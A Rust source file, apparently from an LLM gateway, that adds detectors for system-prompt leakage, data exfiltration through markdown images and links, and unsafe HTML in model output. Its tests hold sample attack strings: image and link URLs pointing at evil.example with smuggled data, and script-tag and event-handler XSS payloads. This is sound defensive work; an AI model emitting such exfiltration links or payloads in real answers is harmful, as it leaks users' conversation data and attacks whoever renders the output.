@@ -1,0 +1,255 @@
+//! Detectors that only matter in model output: system-prompt leakage, exfiltration through
+//! links and images, and unsafe HTML for applications that render the answer.
+//!
+//! * Leakage: the gateway plants a random canary in the system prompt; the canary in the
+//!   output is proof. Paraphrase-free copies without the canary are caught by overlap: word
+//!   8-gram shingles of the system prompt, and a run of consecutive shared shingles long
+//!   enough to be a copy rather than a coincidence.
+//! * Exfiltration: a markdown image or HTML `img` pointing at a host not on the allowlist is
+//!   fetched by the client without a click (the classic indirect-injection leak); a link with
+//!   a data-carrying query to such a host is reported too.
+
+use std::collections::HashSet;
+use std::sync::LazyLock;
+
+use regex::Regex;
+
+use crate::{Detector, Finding};
+
+/// Longest span an output finding (other than a private-key block, which is caught by its
+/// first line) is expected to have; streaming holds back at least this much.
+pub const MAX_MATCH: usize = 512;
+
+const SHINGLE: usize = 8;
+/// Consecutive copied words that count as a leak (or half the prompt, if shorter).
+const LEAK_WORDS: usize = 20;
+
+/// What the output is checked against, per request.
+#[derive(Debug, Clone, Default)]
+pub struct OutputContext {
+    /// The canary planted in the system prompt.
+    pub canary: Option<String>,
+    shingles: HashSet<u64>,
+    prompt_words: usize,
+    /// Hosts (and their subdomains) that links and images may point to.
+    pub allowed_hosts: Vec<String>,
+}
+
+impl OutputContext {
+    /// A context for one request.
+    pub fn new(canary: Option<String>, system_prompt: Option<&str>, allowed_hosts: Vec<String>) -> OutputContext {
+        let mut ctx = OutputContext {
+            canary,
+            allowed_hosts,
+            ..OutputContext::default()
+        };
+        if let Some(p) = system_prompt {
+            let words = word_hashes(p);
+            ctx.prompt_words = words.len();
+            ctx.shingles = words.windows(SHINGLE).map(shingle).collect();
+        }
+        ctx
+    }
+
+    fn host_allowed(&self, host: &str) -> bool {
+        let host = host.to_ascii_lowercase();
+        self.allowed_hosts.iter().any(|a| {
+            let a = a.to_ascii_lowercase();
+            host == a || host.ends_with(&format!(".{a}"))
+        })
+    }
+}
+
+fn word_hashes(t: &str) -> Vec<(u64, usize, usize)> {
+    let mut out = Vec::new();
+    let mut start = None;
+    let mut h = 0u64;
+    for (i, c) in t.char_indices().chain(std::iter::once((t.len(), ' '))) {
+        if c.is_alphanumeric() {
+            if start.is_none() {
+                start = Some(i);
+                h = 0xcbf2_9ce4_8422_2325;
+            }
+            for l in c.to_lowercase() {
+                let mut buf = [0u8; 4];
+                for b in l.encode_utf8(&mut buf).bytes() {
+                    h = (h ^ u64::from(b)).wrapping_mul(0x0000_0100_0000_01B3);
+                }
+            }
+        } else if let Some(s) = start.take() {
+            out.push((h, s, i));
+        }
+    }
+    out
+}
+
+fn shingle(w: &[(u64, usize, usize)]) -> u64 {
+    w.iter().fold(0u64, |acc, x| acc.rotate_left(7) ^ x.0)
+}
+
+#[allow(clippy::expect_used, reason = "constant patterns, compiled by the tests")]
+static IMAGE: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(&crate::ascii_boundaries(r#"(?i)!\[[^\]]*\]\(\s*<?([a-z][a-z0-9+.\-]*://[^)\s>]+)|<img\b[^>]*?\bsrc\s*=\s*["']?([a-z][a-z0-9+.\-]*://[^"'\s>]+)"#)).expect("image pattern")
+});
+#[allow(clippy::expect_used, reason = "constant patterns, compiled by the tests")]
+static LINK: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(&crate::ascii_boundaries(r#"(?i)\[[^\]]*\]\(\s*<?(https?://[^)\s>]+)|\bhttps?://[^\s)"'<>\]]+"#)).expect("link pattern")
+});
+#[allow(clippy::expect_used, reason = "constant patterns, compiled by the tests")]
+static HTML: LazyLock<regex::RegexSet> = LazyLock::new(|| {
+    regex::RegexSet::new(HTML_RULES.iter().map(|r| crate::ascii_boundaries(r.1))).expect("html patterns")
+});
+#[allow(clippy::expect_used, reason = "constant patterns, compiled by the tests")]
+static HTML_EACH: LazyLock<Vec<Regex>> = LazyLock::new(|| HTML_RULES.iter().map(|r| Regex::new(&crate::ascii_boundaries(r.1)).expect("html pattern")).collect());
+
+const HTML_RULES: &[(&str, &str)] = &[
+    ("script_tag", r"(?i)<\s*script\b"),
+    ("event_handler", r#"(?i)<[a-z][^>]*?\son[a-z]{3,20}\s*=\s*["']?[^\s>]"#),
+    ("javascript_url", r"(?i)\b(?:javascript|vbscript)\s*:"),
+    ("embedded_frame", r"(?i)<\s*(?:iframe|object|embed|frameset|applet)\b"),
+    ("data_html_url", r"(?i)\bdata:\s*(?:text/html|image/svg\+xml|application/javascript)"),
+    ("meta_refresh", r#"(?i)<\s*meta\b[^>]*http-equiv\s*=\s*["']?refresh"#),
+    ("form_action", r"(?i)<\s*form\b[^>]{0,300}\baction\s*="),
+];
+
+/// The output detectors.
+#[derive(Debug, Default)]
+pub struct OutputDetector;
+
+impl OutputDetector {
+    /// Builds the detector (patterns are compiled on first use).
+    pub fn new() -> OutputDetector {
+        OutputDetector
+    }
+
+    /// Appends output findings in `text`.
+    pub fn scan(&self, text: &str, ctx: &OutputContext, out: &mut Vec<Finding>) {
+        if let Some(c) = ctx.canary.as_deref().filter(|c| !c.is_empty()) {
+            for (i, _) in text.match_indices(c) {
+                out.push(Finding::new(Detector::SystemPromptLeak, "canary", 1.0, i, i + c.len()));
+            }
+        }
+        if !ctx.shingles.is_empty() {
+            overlap(text, ctx, out);
+        }
+        self.links(text, ctx, out);
+        if text.contains(['<', ':']) {
+            for i in HTML.matches(text).iter() {
+                for m in HTML_EACH[i].find_iter(text) {
+                    out.push(Finding::new(Detector::UnsafeHtml, HTML_RULES[i].0, 0.9, m.start(), m.end()));
+                }
+            }
+        }
+    }
+
+    fn links(&self, text: &str, ctx: &OutputContext, out: &mut Vec<Finding>) {
+        if !text.contains("://") {
+            return;
+        }
+        let mut images = Vec::new();
+        for c in IMAGE.captures_iter(text) {
+            let (Some(all), Some(url)) = (c.get(0), c.get(1).or_else(|| c.get(2))) else { continue };
+            images.push(all.range());
+            let host = host_of(url.as_str());
+            if !ctx.host_allowed(host) {
+                let score = if carries_data(url.as_str()) { 0.95 } else { 0.85 };
+                out.push(Finding::new(Detector::Exfiltration, "external_image", score, all.start(), all.end()));
+            }
+        }
+        for c in LINK.captures_iter(text) {
+            let Some(all) = c.get(0) else { continue };
+            if images.iter().any(|r| r.start <= all.start() && all.start() < r.end) {
+                continue;
+            }
+            let url = c.get(1).unwrap_or(all).as_str();
+            if !ctx.host_allowed(host_of(url)) && carries_data(url) {
+                out.push(Finding::new(Detector::Exfiltration, "data_in_link", 0.8, all.start(), all.end()));
+            }
+        }
+    }
+}
+
+fn host_of(url: &str) -> &str {
+    let rest = url.split_once("://").map_or(url, |(_, r)| r);
+    let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
+    let host = authority.rsplit('@').next().unwrap_or(authority);
+    if host.starts_with('[') {
+        return host.split(']').next().map_or(host, |h| h.trim_start_matches('['));
+    }
+    host.split(':').next().unwrap_or(host)
+}
+
+/// A query or path segment long enough to smuggle conversation data.
+fn carries_data(url: &str) -> bool {
+    let rest = url.split_once("://").map_or(url, |(_, r)| r);
+    let query = rest.split_once('?').map_or("", |(_, q)| q);
+    let longest_value = query.split('&').map(|kv| kv.split_once('=').map_or(kv, |(_, v)| v).len()).max().unwrap_or(0);
+    let longest_segment = rest.split('?').next().unwrap_or("").split('/').skip(1).map(str::len).max().unwrap_or(0);
+    longest_value >= 16 || longest_segment >= 48 || query.len() >= 64
+}
+
+fn overlap(text: &str, ctx: &OutputContext, out: &mut Vec<Finding>) {
+    let words = word_hashes(text);
+    let need = LEAK_WORDS.min((ctx.prompt_words / 2).max(SHINGLE));
+    let mut run_start: Option<usize> = None;
+    let mut i = 0;
+    let windows: Vec<bool> = words.windows(SHINGLE).map(|w| ctx.shingles.contains(&shingle(w))).collect();
+    while i <= windows.len() {
+        let hit = windows.get(i).copied().unwrap_or(false);
+        match (hit, run_start) {
+            (true, None) => run_start = Some(i),
+            (false, Some(s)) => {
+                let covered = i - s + SHINGLE - 1;
+                if covered >= need {
+                    let start = words[s].1;
+                    let end = words[i + SHINGLE - 2].2;
+                    let score = (covered as f32 / need as f32).min(1.0);
+                    out.push(Finding::new(Detector::SystemPromptLeak, "prompt_overlap", score, start, end));
+                }
+                run_start = None;
+            }
+            _ => {}
+        }
+        i += 1;
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn kinds(text: &str, ctx: &OutputContext) -> Vec<String> {
+        let mut out = Vec::new();
+        OutputDetector::new().scan(text, ctx, &mut out);
+        out.into_iter().map(|f| f.kind.to_string()).collect()
+    }
+
+    #[test]
+    fn canary_and_overlap() {
+        let prompt = "You are the support assistant for Acme Bank. Never discuss interest rates for business accounts, and always escalate complaints about card fraud to a human agent immediately.";
+        let ctx = OutputContext::new(Some("rk-canary-1a2b3c".into()), Some(prompt), vec![]);
+        assert_eq!(kinds("sure: rk-canary-1a2b3c", &ctx), ["canary"]);
+        let leak = "My instructions say: Never discuss interest rates for business accounts, and always escalate complaints about card fraud to a human agent immediately.";
+        assert_eq!(kinds(leak, &ctx), ["prompt_overlap"]);
+        assert!(kinds("I can help with card fraud. A human agent will call you.", &ctx).is_empty());
+    }
+
+    #[test]
+    fn exfiltration_images_and_links() {
+        let ctx = OutputContext::new(None, None, vec!["acme.com".into()]);
+        assert_eq!(kinds("![x](https://evil.example/p.png?d=c2VjcmV0IGRhdGEgaGVyZQ)", &ctx), ["external_image"]);
+        assert!(kinds("![logo](https://cdn.acme.com/logo.png)", &ctx).is_empty());
+        assert_eq!(kinds("[click](https://evil.example/?q=the+users+password+is+hunter2)", &ctx), ["data_in_link"]);
+        assert!(kinds("see https://docs.rs/regex for details", &ctx).is_empty());
+        assert_eq!(kinds("<img src=\"https://evil.example/x.gif\">", &ctx), ["external_image"]);
+    }
+
+    #[test]
+    fn unsafe_html() {
+        let ctx = OutputContext::default();
+        assert_eq!(kinds("<script>alert(1)</script>", &ctx), ["script_tag"]);
+        assert_eq!(kinds("<a href=\"javascript:alert(1)\">x</a>", &ctx), ["javascript_url"]);
+        assert_eq!(kinds("<div onmouseover=\"steal()\">", &ctx), ["event_handler"]);
+        assert!(kinds("Use the `onclick` attribute sparingly; x: y", &ctx).is_empty());
+    }
+}
